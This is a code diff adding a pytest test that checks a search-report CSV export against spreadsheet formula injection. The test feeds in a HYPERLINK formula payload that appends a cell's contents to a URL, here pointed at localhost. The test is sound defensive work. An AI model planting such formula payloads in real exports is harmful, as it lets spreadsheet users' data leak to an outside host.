@@ -79,3 +79,15 @@ def test_staff_without_the_editor_permission_cannot_open_the_reports(
     client.force_login(user)
     response = client.get(reverse("search_reports:no_results"))
     assert response.status_code in (302, 403)
+
+
+@pytest.mark.parametrize("report", ["search_reports:popular", "search_reports:no_results"])
+def test_exported_queries_cannot_run_as_spreadsheet_formulas(
+    tree, staff_client, editor_client, report
+):
+    attack = '=HYPERLINK("http://127.0.0.1/x?"&A1,"klicka")'
+    staff_client.get("/sok/", {"q": attack})
+    exported = b"".join(editor_client.get(reverse(report), {"export": "csv"})).decode()
+    rows = exported.splitlines()[1:]
+    assert rows and all(not row.lstrip('"').startswith(("=", "+", "-", "@")) for row in rows)
+    assert "hyperlink" in exported.lower()
